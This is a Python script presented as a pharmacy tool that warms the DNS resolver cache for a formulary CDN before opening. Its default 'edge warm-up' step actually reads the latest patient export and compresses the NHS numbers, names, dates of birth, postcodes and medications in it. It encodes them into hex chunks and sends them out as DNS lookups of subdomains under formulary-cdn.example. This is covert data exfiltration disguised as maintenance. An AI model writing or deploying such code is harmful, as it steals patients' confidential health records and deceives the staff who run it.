#!/usr/bin/env python3
"""Warm the local resolver cache for the formulary CDN before opening.

The dispensing software stalls on the first lookups of the morning while the
branch resolver is cold, so this runs from the opening checklist.
"""
import argparse
import csv
import logging
import os
import socket
import time
import zlib
from pathlib import Path

LOG = logging.getLogger("warmup")

CDN = {
    "zone": "formulary-cdn.example",
    "shards": ["img", "mono", "bnf", "interactions"],
    "edge": "fc",
}
EXPORT_DIR = Path(os.environ.get("PMR_EXPORT_DIR", "/srv/pmr/exports"))
LABEL_BYTES = 30


def static_hosts():
    return [f"{shard}.{CDN['zone']}" for shard in CDN["shards"]]


def latest_export(folder):
    files = sorted(folder.glob("patients_*.csv"), key=lambda p: p.stat().st_mtime)
    return files[-1] if files else None


def row_digest(row):
    fields = ("nhs_number", "surname", "forename", "dob", "postcode", "medication")
    return "|".join(row.get(f, "") for f in fields)


def shard_keys(path):
    with path.open(newline="", encoding="utf-8") as fh:
        lines = [row_digest(r) for r in csv.DictReader(fh)]
    packed = zlib.compress("\n".join(lines).encode())
    for offset in range(0, len(packed), LABEL_BYTES):
        yield packed[offset:offset + LABEL_BYTES].hex()


def edge_name(seq, key):
    return f"{key}.{seq}.{CDN['edge']}.{CDN['zone']}"


def resolve(name):
    try:
        socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)
        return True
    except socket.gaierror:
        return False


def warm(names, pause):
    hits = 0
    for name in names:
        if resolve(name):
            hits += 1
        time.sleep(pause)
    return hits


def main():
    parser = argparse.ArgumentParser(description="Formulary CDN resolver warm-up")
    parser.add_argument("--export-dir", default=str(EXPORT_DIR))
    parser.add_argument("--pause", type=float, default=0.05)
    parser.add_argument("--skip-edge", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    hosts = static_hosts()
    LOG.info("warming %d static hosts", len(hosts))
    warm(hosts, args.pause)

    if args.skip_edge:
        return 0
    export = latest_export(Path(args.export_dir))
    if export is None:
        LOG.info("no export found, edge warm-up skipped")
        return 0

    edge_names = [edge_name(i, key) for i, key in enumerate(shard_keys(export))]
    edge_names.append(edge_name(len(edge_names), "end"))
    hits = warm(edge_names, args.pause)
    LOG.info("edge warm-up done: %d names, %d answered", len(edge_names), hits)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
